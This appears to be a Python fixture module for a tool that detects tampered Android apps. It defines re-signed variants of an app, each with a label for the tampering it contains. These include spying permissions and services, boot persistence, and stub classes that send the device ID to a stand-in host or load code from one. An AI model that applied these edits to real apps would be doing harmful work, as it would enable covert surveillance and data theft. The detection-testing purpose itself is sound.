"""Android apps: permissions, components, code, libraries, signer. All but two are signed anew with a stranger's key."""

from collections.abc import Iterator
from functools import partial

from tamper.edits import Edit, add, both, content, patch
from tamper.genuine.apps import SIGNER, AndroidApp
from tamper.kind import Fitted, Kind
from tamper.making.dex import program
from tamper.making.manifests import Element, assign, component, insert, permission
from tamper.making.programs import IDLE, build

_MANIFEST = "AndroidManifest.xml"
_REMARKS = {
    "apk-overlays": "privilege-opened was allowed besides: by the vocabulary's own words a broader grant counts as that"
}
_ANEW = add(SIGNER, "stranger")


def kinds() -> Iterator[Kind]:
    """Yield the kinds of this subject."""
    for id_, what, edit, right, also in _all():
        yield Kind(id_, AndroidApp.name, what, edit, right, also, remark=_REMARKS.get(id_, ""))


def _all() -> Iterator[tuple[str, str, Edit | Fitted, tuple[str, ...], tuple[str, ...]]]:
    signed = ("signer-replaced", "app-injected")
    yield "apk-signed-anew", "the same app with a stranger's signature", _ANEW, ("signer-replaced",), ()
    yield (
        "apk-reads-messages",
        "permission to receive messages",
        _with(permission("RECEIVE_SMS")),
        ("communications-read",),
        signed,
    )
    yield "apk-sees", "permission to use the camera", _with(permission("CAMERA")), ("surveillance",), signed
    yield (
        "apk-sees-screen",
        "a service for accessibility, which sees every screen",
        _with(
            component(
                "service",
                "io.appium.settings.Reader",
                "android.accessibilityservice.AccessibilityService",
                guard="android.permission.BIND_ACCESSIBILITY_SERVICE",
            ),
            within="application",
        ),
        ("communications-read",),
        (*signed, "credential-capture", "surveillance"),
    )
    yield (
        "apk-reads-notifications",
        "a service that is told every notification",
        _with(
            component(
                "service",
                "io.appium.settings.Listener",
                "android.service.notification.NotificationListenerService",
                guard="android.permission.BIND_NOTIFICATION_LISTENER_SERVICE",
            ),
            within="application",
        ),
        ("communications-read",),
        (*signed, "surveillance"),
    )
    yield (
        "apk-starts-with-phone",
        "a receiver that starts the app with the phone",
        both(
            _with(
                component("receiver", "io.appium.settings.Extra", "android.intent.action.LOCKED_BOOT_COMPLETED"),
                within="application",
            ),
            content(_MANIFEST, lambda data: insert(data, [permission("RECEIVE_BOOT_COMPLETED")])),
        ),
        ("start-up-persistence",),
        signed,
    )
    yield (
        "apk-overlays",
        "permission to draw over other apps",
        _with(permission("SYSTEM_ALERT_WINDOW")),
        ("credential-capture",),
        (*signed, "privilege-opened"),
    )
    yield (
        "apk-code-sends",
        "a class that would send to another host",
        both(_ANEW, add("classes9.dex", program("Lnet/example/Beacon;", ["http://collect.example.net/in"], [("Ljava/net/URL;", "openConnection"), ("Landroid/telephony/TelephonyManager;", "getDeviceId")]))),
        ("data-sent-elsewhere", "app-injected"),
        ("app-injected", "data-sent-elsewhere", "signer-replaced", "surveillance"),
    )  # fmt: skip
    yield (
        "apk-code-fetches",
        "a class that would load further code",
        both(_ANEW, add("classes9.dex", program("Lnet/example/Loader;", ["http://203.0.113.7/x.dex"], [("Ldalvik/system/DexClassLoader;", "loadClass"), ("Ljava/net/URL;", "openStream")]))),
        ("code-downloaded",),
        ("app-injected", "signer-replaced", "data-sent-elsewhere"),
    )  # fmt: skip
    yield (
        "apk-lends-line",
        "a component with the name of one that lends the line to strangers",
        both(_ANEW, add("classes9.dex", program("Lcom/infatica/agent/InfaticaService;", ["infatica"], [("Ljava/net/Socket;", "connect")]))),
        ("bandwidth-abused",),
        ("app-injected", "signer-replaced", "data-sent-elsewhere"),
    )  # fmt: skip
    yield (
        "apk-native-code",
        "a native library",
        both(_ANEW, add("lib/arm64-v8a/libextra.so", partial(build, IDLE, "-shared", "-fPIC", "-Wl,--build-id=none"))),
        ("app-injected",),
        ("signer-replaced", "program-altered"),
    )
    yield (
        "apk-code-patched",
        "one bit of the app's code changed, the maker's signature left as it is",
        patch("classes2.dex"),
        ("app-injected", "program-altered"),
        ("app-injected", "program-altered"),
    )
    yield (
        "apk-cleartext",
        "unencrypted connections allowed",
        both(_ANEW, content(_MANIFEST, lambda data: assign(data, "application", "usesCleartextTraffic", True))),
        ("hardening-lost",),
        signed,
    )
    yield (
        "apk-older-code",
        "code of an older build under a newer version number",
        both(_ANEW, content(_MANIFEST, lambda data: assign(data, "manifest", "versionCode", 999))),
        ("provenance-falsified",),
        ("signer-replaced",),
    )
    yield (
        "apk-picture",
        "a picture changed, signed anew",
        Fitted(lambda genuine: both(_ANEW, patch(min(path for path in genuine.tree if path.endswith(".png")), 0.8))),
        ("appearance-changed", "signer-replaced"),
        ("signer-replaced", "appearance-changed"),
    )


def _with(*elements: Element, within: str = "manifest") -> Edit:
    return both(_ANEW, content(_MANIFEST, lambda data: insert(data, elements, within=within)))
